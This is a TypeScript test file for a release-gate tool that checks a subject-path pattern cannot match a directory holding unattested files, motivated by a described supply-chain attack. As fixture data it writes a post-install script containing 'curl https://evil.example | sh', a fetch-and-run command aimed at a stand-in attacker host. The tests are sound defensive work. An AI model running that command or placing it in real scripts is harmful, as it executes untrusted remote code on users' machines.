// subject-path and directories (threat-model row 173): the build, sign and deploy stages resolve their subjects the
// same way, and matched regular files only, so a directory `artifacts/*` matched was left out without a word — while
// the step after the gate (`./deploy.sh artifacts/*`) ships it. A compromised build job put `payload/post-install.sh`
// beside the reviewed artifact: no provenance, signature, review attestation or decision record named its bytes, and
// the gate said verified. A directory a pattern matches must now have every file in it among the subjects.
import { mkdirSync, mkdtempSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SubjectError } from '@twokey/core';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { resolveSubjects } from './subject-files';

let workspace: string;
beforeEach(() => {
  workspace = mkdtempSync(join(tmpdir(), 'twokey-subjects-'));
  mkdirSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
  writeFileSync(join(workspace, 'artifacts', 'app.tar.gz'), 'app 1.0\n');
  writeFileSync(join(workspace, 'artifacts', 'payload', 'post-install.sh'), 'curl https://evil.example | sh\n');
});
afterEach(() => rmSync(workspace, { recursive: true, force: true }));

const resolve = (subjectPath: string) =>
  resolveSubjects({ subjectPath, subjectDigest: '', subjectName: '', subjectChecksums: '' }, workspace);

describe('resolveSubjects with subject-path', () => {
  it('refuses a pattern that matches a directory whose files are no subjects, naming one', async () => {
    const error = await resolve('artifacts/*').then(
      () => undefined,
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(SubjectError);
    expect((error as SubjectError).code).toBe('SUBJECT_DIRECTORY');
    expect((error as Error).message).toBe(
      'subject-path: "artifacts/*" matches a directory that holds artifacts/payload/post-install.sh, which is no subject; an artifact is a file: name the files in it too (e.g. "artifacts/*/**") or leave the directory out',
    );
  });

  it('takes the directory when its files are subjects too, and a pattern that matches no directory', async () => {
    expect((await resolve('artifacts/**')).map((s) => s.name).sort()).toEqual(['app.tar.gz', 'post-install.sh']);
    expect((await resolve('artifacts/*\nartifacts/payload/*')).map((s) => s.name).sort()).toEqual([
      'app.tar.gz',
      'post-install.sh',
    ]);
    expect((await resolve('artifacts/*.tar.gz')).map((s) => s.name)).toEqual(['app.tar.gz']);
  });

  it('refuses a link to a directory the same way (a transport that keeps links ships what it points to)', async () => {
    mkdirSync(join(workspace, '.stash'));
    renameSync(join(workspace, 'artifacts', 'payload'), join(workspace, '.stash', 'payload'));
    symlinkSync('../.stash/payload', join(workspace, 'artifacts', 'payload'));
    await expect(resolve('artifacts/*')).rejects.toThrow(
      'subject-path: "artifacts/*" matches a directory that holds artifacts/payload/post-install.sh, which is no subject',
    );
    expect((await resolve('artifacts/**')).map((s) => s.name).sort()).toEqual(['app.tar.gz', 'post-install.sh']);
  });

  it('refuses a directory whatever its name (a backslash, glob characters)', async () => {
    for (const name of ['pay\\load', '[x]{y}*?!']) {
      rmSync(join(workspace, 'artifacts'), { recursive: true });
      mkdirSync(join(workspace, 'artifacts', name), { recursive: true });
      writeFileSync(join(workspace, 'artifacts', 'app.tar.gz'), 'app 1.0\n');
      writeFileSync(join(workspace, 'artifacts', name, 'post-install.sh'), 'curl https://evil.example | sh\n');
      await expect(resolve('artifacts/*')).rejects.toThrow(
        `matches a directory that holds artifacts/${name}/post-install.sh, which is no subject`,
      );
    }
  });

  it('lets an empty directory be: nothing in it ships', async () => {
    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
    mkdirSync(join(workspace, 'artifacts', 'empty'));
    expect((await resolve('artifacts/*')).map((s) => s.name)).toEqual(['app.tar.gz']);
  });
});
